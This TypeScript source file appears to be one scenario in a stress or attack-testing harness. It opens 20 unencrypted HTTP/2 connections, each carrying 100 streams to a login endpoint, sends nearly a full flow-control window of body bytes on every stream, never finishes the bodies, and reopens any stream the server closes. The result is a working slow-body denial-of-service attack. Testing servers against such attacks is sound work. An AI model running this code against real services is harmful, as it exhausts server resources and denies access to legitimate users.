// Streams of HTTP/2 without TLS whose bodies never end.

import { type Attacker, pause, repeat } from "../attacker.ts";
import { networkAddress } from "../addresses.ts";
import { Http2Connection } from "./http2.ts";

/** 2,000 streams, as there were bodies in the case. */
const CONNECTIONS = 20;
const STREAMS = 100;
const PER_SECOND = 100;
/** Bytes of each body: nearly all that a stream may send before the server has read of it. */
const BYTES = 60_000;
/** Time between two looks at streams that ended, milliseconds. */
const LOOK_MS = 100;

/** The case: bodies that never end, in HTTP/2 streams without TLS. Streams that end are opened anew. */
export function unfinishedStreams(attacker: Attacker): Promise<void> {
  return repeat(attacker, { atOnce: CONNECTIONS, perSecond: PER_SECOND }, async (turn) => {
    let open = 0;
    const watch = {
      onRefused(): void {
        open--;
        attacker.count("streams answered or reset");
      },
    };
    const { connection, ended } = await Http2Connection.open(attacker.port, attacker.traffic, watch);
    attacker.count("connections");
    let isOver = false;
    void ended.then(() => isOver = true);
    while (!isOver) {
      for (; open < STREAMS && !isOver; open++) {
        const stream = await connection.openStream("/api/auth/login", networkAddress(turn));
        attacker.count("streams");
        void connection.sendBody(stream, BYTES);
      }
      await pause(LOOK_MS);
    }
    attacker.count("closed by the server");
  });
}
